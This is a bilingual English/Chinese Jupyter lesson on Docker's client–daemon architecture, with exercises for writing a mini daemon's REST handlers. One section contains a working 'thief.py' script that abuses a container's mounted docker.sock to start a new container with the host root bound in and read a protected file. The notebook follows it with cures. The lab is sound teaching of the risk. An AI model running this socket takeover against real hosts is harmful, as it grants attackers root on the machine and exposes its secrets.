# %% [markdown] lang="en" id="title"
# # 5. Architecture
#
# You type `docker run`, and a container runs. Who has started it? Not the command. Docker is two programs: a **client**, which asks,
# and a **server**, the daemon, which builds, runs and hands out. In this lesson you listen in on them, write a daemon that the stock
# `docker` command takes for the real one, draw the real one as it runs, replace a part of it meanwhile, and take over a machine
# through its socket. The core takes about 75 minutes.

# %% [markdown] lang="zh" of="17d6fded"
# # 5. Docker 架构
#
# 你输入 `docker run`，容器就运行起来。是谁启动的？不是这条命令。Docker 是两个程序：**客户端**只管提要求，**服务端**（守护进程，daemon）
# 负责构建、运行和分发。这一课你要旁听它们的对话，写一个能让原装 `docker` 命令信以为真的守护进程，画出运行中的真家伙，
# 趁它运行时换掉一个部件，最后通过它的套接字接管一台机器。主线约 75 分钟。

# %% [markdown] lang="en" id="first"
# ## Listening in
#
# `lab.daemon` starts a real daemon, labcore's, on a socket of this lesson. A socket is where two programs meet to talk; here it is a
# file. `lab.listen` puts another one in front, which hands on every byte, both ways, and writes it down. `docker` is the client,
# told to ask there. What passes when it lists the containers?

# %% [markdown] lang="zh" of="3fe18336"
# ## 旁听
#
# `lab.daemon` 启动一个真正的守护进程（labcore 的），监听这一课专用的套接字（socket）。套接字是两个程序碰头说话的地方，这里它是一个文件。
# `lab.listen` 在前面再放一个套接字，双向转发每个字节，并且记下来。`docker` 是客户端，让它到那里去问。列出容器时，双方会说些什么？

# %%
from labcore.lab.vocabulary import *
lab.begin(5)
lab.guess("ps")

# %%
daemon = lab.daemon(images=("busybox",))
ear = lab.listen(daemon)
docker = lab.docker(ear)
docker("ps")
ear.conversation()

# %%
lab.outcome("ps")

# %% [markdown] lang="en" id="conversation"
# It is text, and it is **HTTP**, as between a browser and a web server. The client knows nothing itself. `HEAD /_ping`: are you
# there, and which version do you speak? (They take the older of their two: it stands in the next line, `/v1.…`.) Then
# `GET /containers/json`, and it makes a table of the answer, here an empty list.
#
# And `docker run -d` (`-d`: do not wait for it)? Which requests will that be?

# %% [markdown] lang="zh" of="a12ae55a"
# 传的是文本，而且就是 **HTTP**，和浏览器与网站之间一样。客户端自己什么也不知道。`HEAD /_ping`：你在吗，说哪个版本？
# （两边取较旧的版本，就写在下一行的 `/v1.…` 里。）
# 然后是 `GET /containers/json`，把应答排成表格；这里是空列表。
#
# 那么 `docker run -d` 呢（`-d`：不等它结束）？会有哪些请求？

# %%
lab.guess("run -d")

# %%
docker("run -d busybox sh -c 'exit 3'")
ear.conversation()

# %% [markdown] lang="en" id="route-step"
# There is no request called *run*. The client **creates** a container: all about it is one piece of JSON, and the answer is its id.
# It asks to be told its end (**wait**), and has it **started**. This way of talking is called **REST**: things have addresses
# (`/containers/4f3…`); the method says what is to be done, `GET` look, `POST` do, `DELETE` remove; a status says what came of it,
# 2xx done, 4xx your fault, 5xx mine; and each request stands for itself. Such an interface for programs is a *REST API*.
#
# So a daemon's first work is to find out who is to answer. **Your first step** is this router. `routes` is a list of
# `(method, pattern, name)`, such as `("POST", "/containers/{id}/start", "start")`. Return the name of the first that fits, and the
# list of what stands in the place of its braces: `("start", ["4f3"])`; or `(None, [])`.
#
# - `re.sub(r"^/v[0-9.]+/", "/", path)` cuts the version off, which the client puts in front
# - `re.sub(r"\{\w+\}", "([^/]+)", pattern)` makes a regular expression of a pattern: whatever has no slash, as a group
# - `re.fullmatch(…, path)` compares it with the whole path, and `.groups()` has the values; the method has to fit, too

# %% [markdown] lang="zh" of="c684934b"
# 并没有叫 run 的请求。客户端先**创建**（create）容器：关于它的一切写成一段 JSON，应答是它的 id；再请求得知它何时结束（**wait**），然后让它**启动**（start）。
# 这种说话方式叫 **REST**：东西都有地址（`/containers/4f3…`）；方法表示要做什么，`GET` 是看，`POST` 是做，`DELETE` 是删；
# 状态码表示结果，2xx 成功，4xx 是你的错，5xx 是我的错；每个请求都自成一体。这样一套供程序使用的接口，就叫 *REST API*。
#
# 所以守护进程的第一件事，是弄清由谁来应答。**你的第一步**就是这个路由（router）。`routes` 是 `(方法, 模式, 名字)` 的列表，
# 比如 `("POST", "/containers/{id}/start", "start")`。返回第一条符合的名字，以及花括号位置上那些值的列表：`("start", ["4f3"])`；
# 都不符合就返回 `(None, [])`。
#
# - `re.sub(r"^/v[0-9.]+/", "/", path)` 去掉客户端放在前面的版本号
# - `re.sub(r"\{\w+\}", "([^/]+)", pattern)` 把模式变成正则表达式：任何不含斜杠的文本，作为一个组
# - `re.fullmatch(…, path)` 拿它与整个路径比较，`.groups()` 里是各个值；方法也必须相符

# %% tags=["exercise"] zh="返回应答这个请求的处理函数名，以及路径里的值（6 行）。" of="d0531b3b"
@lab.step
def route(method, path, routes):
    """Return a request's handler by its name, and the values in its path (6 lines)."""
    ...

# %% tags=["check"]
lab.check(route)

# %% tags=["nbval-check-output"]
routes = [("GET", "/_ping", "ping"), ("POST", "/containers/{id}/start", "start")]
for asked in "GET /_ping", "POST /v1.47/containers/4f3/start", "GET /start":
    print(asked, "is answered by", *route(*asked.split(), routes))

# %%
lab.outcome("run -d")

# %% [markdown] lang="en" id="ping-step"
# ## Your daemon
#
# What is tiresome about a server is supplied: sockets, threads, the grammar of HTTP. `lab.serve()` starts a process that loads your
# `my_runtime.py`, anew whenever it has changed, asks your `route`, and calls the function of that name: a **handler**. It is given
# `daemon`, which all handlers share, and `request`, with `.method`, `.path`, `.query` (a dictionary) and `.json()`. It returns
# `Reply(status, body, headers)`; a dictionary or a list as its body becomes JSON, text stays text.
#
# **Your second step**, `ping`, answers `OK`, with two headers: `Api-Version` is `1.47`, `Ostype` is `linux`.

# %% [markdown] lang="zh" of="10193e3c"
# ## 你的守护进程
#
# 服务器里琐碎的部分都已提供：套接字、线程、HTTP 的语法。`lab.serve()` 启动一个进程，载入你的 `my_runtime.py`（改了就重新载入），
# 去问你的 `route`，再调用那个名字的函数，即**处理函数**（handler）。它得到 `daemon`（所有处理函数共用），
# 以及 `request`，带有 `.method`、`.path`、`.query`（字典）和 `.json()`。它返回 `Reply(状态, 正文, 首部)`；
# 正文是字典或列表就变成 JSON，是文本就原样发送。
#
# **你的第二步** `ping`：应答 `OK`，带两个首部：`Api-Version` 是 `1.47`，`Ostype` 是 `linux`。

# %% tags=["exercise"] zh="告诉对方守护进程在，说的是哪个版本的 API（1 行）。" of="1ad858d6"
@lab.step
def ping(daemon, request):
    """Say that the daemon is there, and which version of the API it speaks (1 line)."""
    ...

# %% tags=["check"]
lab.check(ping)

# %% [markdown] lang="en" id="curl"
# `curl` is a client that adds nothing of its own. `--unix-socket` tells it through which file to speak (the host's name in the URL
# is then only for show), and `-i` to print the answer's head. `lab.curl` shows its command line, which works in a terminal as well.
# The last path has no handler. What will come?

# %% [markdown] lang="zh" of="7d1fbd10"
# `curl` 是个原原本本的客户端。`--unix-socket` 告诉它通过哪个文件说话（这时 URL 里的主机名只是摆设），`-i` 让它打印应答的首部。
# `lab.curl` 会显示完整的命令行，在终端里同样能用。最后一个路径没有处理函数，会得到什么？

# %%
mini = lab.serve()
for path in ("/_ping", "/v1.47/_ping", "/swarm"):
    lab.curl(f"http://docker{path}", unix_socket=mini.socket)

# %% [markdown] lang="en" id="create-step"
# ## Create, and start
#
# *404*: your `route` returned `None`. Next: what is there after a `create`, a process that sleeps? No: a note. Docker writes down
# what is wanted and makes the read-write layer; so a container that has ended can be started again. Yours are kept in memory.
#
# **Your third step**, `create`:
#
# - `request.json()` is what you saw: `Image`, and `Cmd`, the program's words (`None` if none were typed: take that as it is)
# - `Container(image, argv, name)` makes one with an `.id`, 64 random hexadecimal digits; the name, if any, is `request.query.get("name", "")`
# - keep it: `daemon.containers[container.id] = container`
# - the answer is 201, *created*: `{"Id": …, "Warnings": []}`

# %% [markdown] lang="zh" of="0a108ee3"
# ## 创建与启动
#
# *404*：你的 `route` 返回了 `None`。接下来：`create` 之后有什么，一个睡着的进程吗？不，只有一条记录。Docker 记下要求，并准备好读写层；
# 所以结束了的容器还能再次启动。你的就记在内存里。
#
# **你的第三步** `create`：
#
# - `request.json()` 就是你看到的那段：`Image`，还有 `Cmd`（程序的各个词；没输入就是 `None`，照样传下去）
# - `Container(image, argv, name)` 做出一个容器，带 `.id`：64 位随机的十六进制数；名字（如果有）是 `request.query.get("name", "")`
# - 保存起来：`daemon.containers[container.id] = container`
# - 应答 201（已创建）：`{"Id": …, "Warnings": []}`

# %% tags=["exercise"] zh="按请求的描述记下一个容器；应答它的 id（4 行）。" of="62a5cb7d"
@lab.step
def create(daemon, request):
    """Note a container as the request describes it; answer its id (4 lines)."""
    ...

# %% tags=["check"]
lab.check(create)

# %% [markdown] lang="en" id="start-step"
# **Your fourth step**, `start`. `id` is what your `route` found in the path. `daemon.containers[id]` finds a container by its id, the
# beginning of it, or its name; where there is none it raises an error, which the frame answers with 404. `container.start([…])`
# starts a command, and keeps what it puts out. Which command? The one of lesson 4: `daemon.runtime` holds its first words,
# `python my_runtime.py`, and behind them come `run`, `container.image` and the words of `container.argv` (`[*a, *b]` joins lists and tuples alike). There is
# nothing more to say: 204.

# %% [markdown] lang="zh" of="e733a2c5"
# **你的第四步** `start`。`id` 就是你的 `route` 在路径里找到的值。`daemon.containers[id]` 按 id、id 的开头或名字查找容器；
# 找不到会抛出错误，框架据此应答 404。`container.start([…])` 启动一条命令，并收存它的输出。哪条命令？第 4 课的那条：
# `daemon.runtime` 是开头的词，即 `python my_runtime.py`，后面接上 `run`、`container.image` 和 `container.argv` 的各个词（`[*a, *b]` 能把列表和元组接在一起）。没有别的要说：204。

# %% tags=["exercise"] zh="用第 4 课的命令启动容器的进程（3 行）。" of="0f5f366f"
@lab.step
def start(daemon, request, id):
    """Start a container's process by the command of lesson 4 (3 lines)."""
    ...

# %% tags=["check"]
lab.check(start)

# %% [markdown] lang="en" id="wait-step"
# So the daemon makes no container itself: it starts a program that does, for each container one. Real ones do the same.
#
# **Your fifth step**, `wait`, answers `{"StatusCode": 3}` when the container has ended: `container.wait()` returns the code, and waits for
# as long as it takes, for the start as well. But look at the order in which the client asked: `wait` *before* `start`. It goes on
# when the **head** of the answer has come. If you wait before you answer, you wait for a start that never comes.
#
# So the head goes at once, and the body later: give `Reply` an iterator. Write a function in the function, with `yield` where `return`
# would be; its lines run while the answer is being sent. What you yield is a dictionary, which becomes JSON by itself; the status is
# 200. (Look the container up *before*, or an unknown one is no 404 any more.)

# %% [markdown] lang="zh" of="d5f3ae21"
# 可见守护进程自己并不创建容器：它为每个容器启动一个程序去做。真正的守护进程也一样。
#
# **你的第五步** `wait`：容器结束后应答 `{"StatusCode": 3}`。`container.wait()` 返回退出码，需要多久就等多久，还没启动也会等。
# 但请看客户端请求的顺序：`wait` 在 `start` **之前**。它收到应答的**首部**才会往下走。要是你先等再应答，等的就是一个永远不会来的启动。
#
# 所以首部立刻发出，正文晚些再说：给 `Reply` 一个迭代器。在函数里再写一个函数，该写 `return` 的地方写 `yield`；
# 它的代码在发送应答的过程中才运行。`yield` 出来的是字典，会自动变成 JSON；状态是 200。（查找容器要放在它**前面**，否则找不到时就不再是 404 了。）

# %% tags=["exercise"] zh="立刻应答，等容器结束再告诉退出码（5 行）。" of="fa8e9cbd"
@lab.step
def wait(daemon, request, id):
    """Answer at once, and tell the exit code when the container has ended (5 lines)."""
    ...

# %% tags=["check"]
lab.check(wait)

# %% [markdown] lang="en" id="stock"
# Your daemon reads the file again whenever it has changed; here it begins anew, without containers. Now its guest: the stock `docker` command, unchanged, on your daemon and
# your `run`, on the image that your functions of lesson 3 unpack. (`docker wait` prints the exit code.)

# %% [markdown] lang="zh" of="aa587ba3"
# 你的守护进程会在文件改动后重新读它；这里让它从头开始，一个容器也没有。现在客人来了：原装的 `docker` 命令，一点没改，用的是你的守护进程、你的 `run`，
# 还有你第 3 课的函数解包的镜像。（`docker wait` 打印退出码。）

# %%
store = lab.new_store("busybox")
mini = lab.serve()
docker = lab.docker(mini)
docker("run -d --name soup busybox sh -c 'hostname; exit 7'")
docker("wait soup")

# %%
mini.log()

# %% [markdown] lang="en" id="missing"
# It took your daemon for a real one. What it does not do yet: show what a container says (lesson 6; without `-d` the client complains that
# it is *unable to upgrade*), fetch images (lesson 6 as well), and much else. Who tells the user?

# %% [markdown] lang="zh" of="8e8b93e4"
# 它把你的守护进程当成真的了。还不会的有：显示容器的输出（第 6 课；所以不带 `-d` 时，客户端会抱怨 *unable to upgrade*），获取镜像（也在第 6 课），以及其他许多。用户怎么知道？

# %%
docker("start cake")
docker("network ls")

# %% [markdown] lang="en" id="tcp"
# Both sentences come from the daemon: the first from a `Container` that is not there, the second from `route`. The client only printed
# `message`.
#
# ## Another door
#
# The same bytes can go through another kind of socket: **TCP**, an address and a port, over a network if need be. Then client and
# daemon are on two machines, and `DOCKER_HOST=tcp://…` (or `ssh://…`) says where. (The article's *Stock* is a slip for *socket*.) Here it is the loopback, `127.0.0.1`, which does not leave
# this machine. The unix socket is a file, and only its owner may open it. And who may ask at the port?

# %% [markdown] lang="zh" of="0c488798"
# 两句话都出自守护进程：第一句因为没有这个 `Container`，第二句因为 `route`。客户端只是把 `message` 打印出来。
#
# ## 另一扇门
#
# 同样的字节也可以走另一种套接字：**TCP**，一个地址加一个端口，需要时可以跨网络。那时客户端和守护进程在两台机器上，
# 用 `DOCKER_HOST=tcp://…`（或 `ssh://…`）指明在哪里。（文章里的 *Stock* 是 *socket* 的笔误。）这里用的是本机回环 `127.0.0.1`，出不了这台机器。
# unix 套接字是文件，只有所有者能打开。那么这个端口，谁能来问？

# %%
lab.guess("tcp door")

# %%
mini = lab.serve(tcp=True)
user = None if confined() else "nobody"  # a lab without root has no other user
lab.curl("http://docker/_ping", unix_socket=mini.socket, user=user)
lab.curl(f"{mini.tcp}/_ping", user=user)

# %%
lab.outcome("tcp door")

# %% [markdown] lang="en" id="sdk"
# (curl words the refusal as if there were a port 80. It was the file: the kernel did not let *nobody* open it.)
#
# A browser is a client, too: it sends `GET`, and shows what comes (open the first line below, if the notebook runs on the machine at
# which you sit). Programs ask as well. For Python there is a library, docker-py; its
#
#     api = docker.APIClient(base_url="tcp://127.0.0.1:…")
#     made = api.create_container("busybox", ["sh", "-c", "exit 4"])
#     api.start(made["Id"]); api.wait(made["Id"])
#
# are three requests, and nothing else. Without the library it is hardly longer. (`None` below: 204 has no body. The second cell uses the library, if it is installed here.)

# %% [markdown] lang="zh" of="dac818bb"
# （curl 说得好像有个 80 端口：其实是内核不让 *nobody* 打开那个文件。）
#
# 浏览器也是客户端：它发送 `GET`，显示应答（如果笔记本就运行在你面前的机器上，可以打开下面第一行的地址）。程序同样可以提要求。
# Python 有一个库叫 docker-py，它的
#
#     api = docker.APIClient(base_url="tcp://127.0.0.1:…")
#     made = api.create_container("busybox", ["sh", "-c", "exit 4"])
#     api.start(made["Id"]); api.wait(made["Id"])
#
# 就是三个请求，仅此而已。不用这个库，也长不了多少。（下面的 `None`：204 没有正文。如果装了这个库，第二格就用它。）

# %%
import http.client
print(f"{mini.tcp}/_ping")
wire = http.client.HTTPConnection(mini.tcp.removeprefix("http://"))

def post(path, value=None):
    wire.request("POST", path, json.dumps(value), {"Content-Type": "application/json"})
    return json.loads(wire.getresponse().read() or "null")

made = post("/containers/create", {"Image": "busybox", "Cmd": ["sh", "-c", "exit 4"]})
post(f"/containers/{made['Id']}/start"), post(f"/containers/{made['Id']}/wait")

# %%
from importlib.util import find_spec
if find_spec("docker"):  # the library is installed here
    import docker as library
    api = library.APIClient(base_url=mini.url, version="1.47")
    made = api.create_container("busybox", ["sh", "-c", "exit 5"])
    api.start(made["Id"]), print(api.wait(made["Id"]))

# %% [markdown] lang="en" id="opened"
# ## The real daemon, opened
#
# The article draws a daemon as **Server**, **Engine** and **Job**, with three **drivers** below. Here is the one that runs. To see
# a job we need a request that lasts: `GET /events`, by hand, through a plain socket. Which process will the picture name as its client?

# %% [markdown] lang="zh" of="084ad40a"
# ## 打开真正的守护进程
#
# 文章把守护进程画成 **Server**、**Engine** 和 **Job**，下面是三个**驱动**（driver）。这就画出正在运行的这一个。
# 要看到 job，需要一个持续的请求：用一个普通套接字，亲手发 `GET /events`。图上会说它的客户端是哪个进程？

# %%
import socket
docker = lab.docker(daemon)
docker("run -d --name soup busybox sleep 1000")
asking = socket.socket(socket.AF_UNIX)
asking.connect(daemon.socket)
asking.sendall(b"GET /events HTTP/1.1\r\nHost: docker\r\n\r\n")
print(asking.recv(15).decode())

# %%
lab.architecture(daemon)

# %% [markdown] lang="en" id="parts"
# It is this notebook: the kernel tells a daemon who is at the other end of a unix socket.
#
# | in the article (2019, and older) | what it does | in your daemon | Docker today |
# | --- | --- | --- | --- |
# | Server | takes requests from its sockets | `lab.serve` | the same, in `dockerd` |
# | Engine | finds who does what, and knows all containers | `route`, `daemon.containers` | `dockerd` |
# | Job | one thing that is done: `create`, `pull`, … | one call of a handler | the name is gone since 2015; labcore has it: `labcore jobs` |
# | GraphDriver | an image's layers become a root | `layers`, `overlay` | storage driver or containerd's *snapshotter* |
# | NetworkDriver | addresses, bridges, ports | lesson 7 | *libnetwork* |
# | ExecDriver | namespaces, limits, the process | `run` | **containerd**, a **shim** for each container, **runc** |
# | — | getting images from a registry | `pull` | `dockerd`, or containerd |
# | — | building | lessons 8 to 10 | **BuildKit**, since Docker 23 what `docker build` uses |
#
# All of them end in system calls. The last driver is the one you know best; in 2013 it was another program, LXC, and from 2014
# (libcontainer) it was in the daemon itself. Suppose the daemon is killed. What becomes of the container?

# %% [markdown] lang="zh" of="41930f08"
# 就是这个笔记本：unix 套接字的另一头是谁，内核会告诉守护进程。
#
# | 文章里（2019 年及更早） | 做什么 | 你的守护进程里 | 今天的 Docker |
# | --- | --- | --- | --- |
# | Server | 从套接字接收请求 | `lab.serve` | 不变，在 `dockerd` 里 |
# | Engine | 找到由谁来做，掌握所有容器 | `route`、`daemon.containers` | `dockerd` |
# | Job | 正在做的一件事：`create`、`pull` 等 | 处理函数的一次调用 | 2015 年起没有这个名字了；labcore 有：`labcore jobs` |
# | GraphDriver | 把镜像的各层变成根（本地化） | `layers`、`overlay` | 存储驱动，或 containerd 的 *snapshotter* |
# | NetworkDriver | 地址、网桥、端口 | 第 7 课 | *libnetwork* |
# | ExecDriver | 命名空间、限额、进程 | `run` | **containerd**，每个容器一个 **shim**，**runc** |
# | — | 从 Registry 获取镜像 | `pull` | `dockerd` 或 containerd |
# | — | 构建 | 第 8 到 10 课 | **BuildKit**，Docker 23 起 `docker build` 就用它 |
#
# 它们最后都落到系统调用上。最后那个驱动你最熟悉；2013 年它是另一个程序 LXC，2014 年起（libcontainer）就在守护进程自己里面。假如守护进程被杀死，容器会怎样？

# %%
lab.guess("daemon killed")

# %%
asking.close(), daemon.start()
pid = int(docker("inspect -f '{{.State.Pid}}' soup").output)
daemon.kill()
print("process", pid, "is", Path(f"/proc/{pid}/comm").read_text().strip())
docker("ps")

# %%
daemon.start()
docker("ps")
lab.outcome("daemon killed")

# %% [markdown] lang="en" id="shims"
# It is still up: a **monitor** of its own holds its output and learns its exit code, whoever else ends (it stood in the picture,
# beside the container's process). Docker calls that a *shim*; with it came containerd (2016). All the same `systemctl stop docker` ends
# the containers, and so does a start after a crash, unless the daemon has `live-restore` set. The picture once more: what has stayed
# the same, and whose child is the monitor now? (Who that is: the process that looks after this lesson's daemons. On your own machine it
# would be number 1.)

# %% [markdown] lang="zh" of="a223ea77"
# 它还在运行：它自己的**监控进程**接着输出，也会得知退出码，不管别人谁结束了（图上就有，在容器进程的旁边）。Docker 把它叫做 *shim*，
# 和 containerd 一起出现（2016 年）。不过，除非守护进程设置了 `live-restore`，`systemctl stop docker` 以及崩溃后的重新启动，都会结束容器。
# 再看一次那张图：什么没有变？监控进程现在是谁的子进程？（那是照看这一课守护进程的进程；在你自己的机器上会是 1 号进程。）

# %%
lab.architecture(daemon)

# %% [markdown] lang="en" id="one-program"
# ## One program or two
#
# For long there was one executable for both. A flag told which it was to be: `docker -d`, or in full `docker --daemon=true`, was
# the daemon, all else the client (the article's one line of it is three commands run together). Then it was `docker daemon` (1.8), and
# since 1.12 (2016) there are two: `docker` and `dockerd`, which systemd starts in the background. labcore has one:

# %% [markdown] lang="zh" of="8d2886af"
# ## 一个程序还是两个
#
# 很长时间里，两者是同一个可执行文件，用一个 flag 区分：`docker -d`（完整写法 `docker --daemon=true`）是守护进程，其他都是客户端。
# （文章里那行 `docker --daemon = truedocker –ddocker –d = true` 是三条命令连在了一起。）后来写作 `docker daemon`（1.8），
# 1.12（2016 年）起分成两个：`docker` 和 `dockerd`，后者由 systemd 在后台启动。labcore 只有一个：

# %%
words = Path(f"/proc/{daemon.pid}/cmdline").read_text().split("\0")
print(*words[words.index("labcore"):])

# %% [markdown] lang="en" id="replace-driver"
# ## A driver is replaced while it runs
#
# With `--stages FILE` labcore's daemon takes the functions of a file in the place of its exec driver's own, and reads it again when it
# has changed. So let us begin with a file that has none.

# %% [markdown] lang="zh" of="e9e99576"
# ## 趁它运行，换掉一个驱动
#
# 加上 `--stages FILE`，labcore 的守护进程就用文件里的函数代替 ExecDriver 自己的，文件改了就重新读。先给它一个没有函数的文件。

# %%
mine = Path(lab.tray("stages"), "stages.py")
mine.write_text("from labcore.lab.vocabulary import *\n")
daemon = lab.daemon("--stages", str(mine), images=("busybox",))
docker = lab.docker(daemon)
docker("run --rm --hostname box busybox hostname")

# %% [markdown] lang="en" id="replaced"
# Now a stage is written into it, the `hostname` of lesson 1 with a name of its own. The daemon is not started again. What will come out?

# %% [markdown] lang="zh" of="b313af52"
# 现在写进一个阶段（stage）：第 1 课的 `hostname`，不过名字是自己定的。守护进程没有重启。会输出什么？

# %%
stage = "def hostname(spec):\n    return [ops.SetHostname('cafe-' + spec.hostname)]\n"
mine.write_text(mine.read_text() + stage)
docker("run --rm --hostname box busybox hostname")

# %% [markdown] lang="en" id="all-mine"
# The other two drivers did their work as before, and did not notice. That is what the lines in such a drawing are for: behind each
# there is an agreement, here *a function from a spec to a list of ops*. And your whole `my_runtime.py`?

# %% [markdown] lang="zh" of="16e2e296"
# 另外两个驱动照常工作，毫无察觉。架构图上的线就是这个意思：每条线背后都有一份约定，这里是“从 spec 到一串操作的函数”。
# 那么你整个的 `my_runtime.py` 呢？

# %%
mine.write_text(Path(lab.my_runtime()).read_text())
docker("run --rm busybox ls /dev")

# %% [markdown] lang="en" id="attack"
# Are `mqueue` and `shm` missing? Then that is the `/dev` which your `devices` of lesson 4 makes. For what you left blank labcore's own
# stage is used.
#
# ## The socket is the key
#
# Monitoring tools, build servers and web consoles want to talk to the daemon from inside of a container, and so one mounts the socket
# into it: `-v /var/run/docker.sock:/var/run/docker.sock`. Let us do that, and take all rights away from that container
# (`--cap-drop ALL`, no network). What can a thief in there do?

# %% [markdown] lang="zh" of="40bf5c53"
# 少了 `mqueue` 和 `shm`？那就是你第 4 课的 `devices` 做出来的 `/dev`。你空着的步骤，用的是 labcore 自己的阶段。
#
# ## 套接字就是钥匙
#
# 监控工具、构建服务器、网页控制台都想从容器里和守护进程说话，于是有人把套接字挂进去：
# `-v /var/run/docker.sock:/var/run/docker.sock`。我们也照做，并且拿走那个容器的一切权力（`--cap-drop ALL`，没有网络）。
# 里面的小偷能做什么？

# %%
lab.guess("socket")

# %%
daemon = lab.daemon(images=("busybox",))
docker = lab.docker(daemon)
secret = Path(lab.tray("safe"), "secret")
secret.write_text("the safe opens with 4711\n")
secret.chmod(0o600)

# %%
thief = Path(lab.tray("thief"), "thief.py")
thief.write_text(f'''
import http.client, json, socket
def ask(method, path, value=None):
    wire = http.client.HTTPConnection("docker")
    wire.sock = socket.socket(socket.AF_UNIX)
    wire.sock.connect("/docker.sock")
    wire.request(method, path, json.dumps(value), {{"Content-Type": "application/json"}})
    return wire.getresponse().read()
wanted = {{"Image": "busybox", "Cmd": ["cat", "/host{secret}"], "Tty": True}}
wanted["HostConfig"] = {{"Binds": ["/:/host:ro"]}}
ask("POST", "/containers/create?name=loot", wanted)
ask("POST", "/containers/loot/start")
print(ask("GET", "/containers/loot/logs?stdout=1&follow=1").decode())
''')
thief.chmod(0o644)

# %% [markdown] lang="en" id="thief"
# The thief's own container has no rights, so it asks for another one, into which the machine's root directory is mounted. (Our
# `busybox` cannot speak to unix sockets; `lab.lent_python()` are options of `docker run` that lend it this machine's Python, read-only. A
# real thief brings a client in the image.)

# %% [markdown] lang="zh" of="6afe94bd"
# 小偷自己的容器没有权力，所以它要求再建一个，把宿主机的根目录挂进去。（我们的 `busybox` 不会和 unix 套接字说话；
# `lab.lent_python()` 是一串 `docker run` 的选项，把本机的 Python 以只读方式借给它。真正的小偷会在镜像里自带客户端。）

# %%
lent = f"-v {daemon.socket}:/docker.sock:ro -v {thief}:/thief.py:ro {lab.lent_python()}"
docker(f"run --rm --cap-drop ALL --network none {lent} busybox python3 /thief.py")

# %%
lab.outcome("socket")

# %% [markdown] lang="en" id="cures"
# The daemon did what it is there for. **Whoever may write to its socket is root**; that it was mounted `:ro` changed nothing, for
# read-only is the file, not what is said through it. The cures:
#
# - **Permissions**: mode `0660`, group `docker`. Whoever is in the group is root; put nobody into it who is not to be that.
# - **TCP only with TLS**, and with certificates of the clients (`dockerd --tlsverify`, port 2376). An open port 2375 is found by
#   strangers within hours. Without them labcore does not even listen beyond the loopback. `DOCKER_HOST=ssh://…` needs no port at all.
# - **Rootless**: a daemon of an ordinary user, in a user namespace (lesson 2). Who takes it over is that user, and no more.
# - **A proxy** that hands on little. To decide what is what your `route` does:

# %% [markdown] lang="zh" of="c061a28c"
# 守护进程只是尽了本分。**谁能往它的套接字里写，谁就是 root**；挂载成 `:ro` 也没用，只读的是那个文件，不是通过它说的话。对策有：
#
# - **权限**：模式 `0660`，属组 `docker`。组里的人就是 root；不该是 root 的人，一个也别放进去。
# - **走 TCP 就必须用 TLS**，并且验证客户端的证书（`dockerd --tlsverify`，端口 2376）。敞开的 2375 端口，几小时内就会被陌生人找到。
#   没有证书，labcore 根本不监听回环以外的地址。`DOCKER_HOST=ssh://…` 则完全不需要端口。
# - **无 root 模式**（rootless）：守护进程属于普通用户，运行在用户命名空间里（第 2 课）。谁接管了它，也不过是那个用户。
# - **代理**：只转发少数请求。判断该不该转发，正是你的 `route` 所做的事：

# %% tags=["nbval-check-output"]
allowed = [("GET", "/_ping", "yes"), ("GET", "/containers/json", "yes")]
asked = "GET /v1.47/containers/json", "POST /containers/create", "DELETE /containers/1"
for request in asked:
    print(request, "->", route(*request.split(), allowed)[0] or "403 Forbidden")

# %% [markdown] lang="en" id="components"
# (Careful: to *read* can be too much as well. `GET /containers/…/json` shows environment variables, with the passwords in them.)
#
# ## Five components
#
# **Docker Client** is what people use mostly: the command, but also any program that asks; its daemon may be far away.
# **Docker Daemon** is what you have opened. It works on the *host*: creates, runs and watches containers, builds and keeps images.
#
# **Docker Image** is lesson 3's: a file system and settings, never changed, a read-only template. There are three ways to one: from nothing
# (`docker import` of an archive, or `FROM scratch`), fetched ready-made (`docker pull`), or on top of another. Content and steps can be
# written down in a text, the **Dockerfile**, from which `docker build` makes it: lessons 8 to 10.
#
# **Docker Registry** keeps images. `docker push`, `pull` and `search` go through the daemon: it is the daemon that talks to the
# registry, for it is there that the image is needed. Docker Hub is one; *Docker Cloud*, beside it in old drawings, was closed in 2018.
#
# **Docker Container** is an image that runs: your program, with the image as its system disk. But it is no hardware: processor, memory
# and kernel are the machine's (lesson 1). Take an image, add your code, run it, and there is a service.

# %% [markdown] lang="zh" of="9772a8ad"
# （当心：只“读”也可能过头。`GET /containers/…/json` 会显示环境变量，密码常常就在里面。）
#
# ## 五个组件
#
# **Docker Client** 是人们平时用的：`docker` 命令，也包括任何提要求的程序；它的守护进程可以在很远的地方。
# **Docker Daemon** 就是你打开的这个。它在 *host* 上工作：创建、运行、监控容器，构建、存储镜像。
#
# **Docker Image** 即第 3 课的镜像：文件系统加配置参数，构建后不再改变，是只读模板。得到它有三种方法：从无到有
# （用 `docker import` 导入一个归档，或 `FROM scratch`），下载现成的（`docker pull`），或在现有镜像上创建。内容和步骤可以写在一个文本文件里，
# 即 **Dockerfile**，由 `docker build` 构建出镜像：第 8 到 10 课。
#
# **Docker Registry** 存储镜像。`docker push`、`pull`、`search` 都通过守护进程：和 Registry 通信的是守护进程，因为镜像要用在它那里。
# Docker Hub 就是一个；旧图上旁边的 *Docker Cloud* 已在 2018 年关闭。
#
# **Docker Container** 是镜像的运行实例：你的程序，镜像好比系统盘。但它并不提供硬件：处理器、内存和内核都是宿主机的（第 1 课）。
# 拿来镜像，加上你的代码，run 一下，就能提供服务。

# %% [markdown] lang="en" id="list-step"
# ## Further: two challenges
#
# **`list_containers`** is for `docker ps`. Answer 200 with a list: a dictionary for each container that runs (`each.state` is `created`, `running`
# or `exited`); with `all` in the query (`1` or `true`) for each. Its fields: `Id`, `Image`, `Command` (the words, joined), `Names` (a list; a slash in front of the name), `State` and
# `Status` (both `each.state`; `Status` is for people, and real ones say *Up 2 minutes*), `Created` (`int(each.created)`).

# %% [markdown] lang="zh" of="480b4f12"
# ## 进阶：两道挑战题
#
# **`list_containers`** 是给 `docker ps` 用的。应答 200，正文是一个列表：每个在运行的容器一个字典（`each.state` 是 `created`、`running` 或 `exited`）；查询串里有 `all`（`1` 或 `true`）就包括所有容器。
# 字段有：`Id`、`Image`、`Command`（各个词连起来）、`Names`（列表；名字前有斜杠）、`State` 和 `Status`（都用 `each.state`；
# `Status` 是给人看的，真正的守护进程会写 *Up 2 minutes*）、`Created`（`int(each.created)`）。

# %% tags=["exercise"] zh="应答 `docker ps` 的列表：在运行的；`?all=1` 则是全部（6 行）。" of="78107951"
@lab.step
def list_containers(daemon, request):
    """Answer the list for `docker ps`: those that run, or all with `?all=1` (6 lines)."""
    ...

# %% tags=["check"]
lab.check(list_containers)

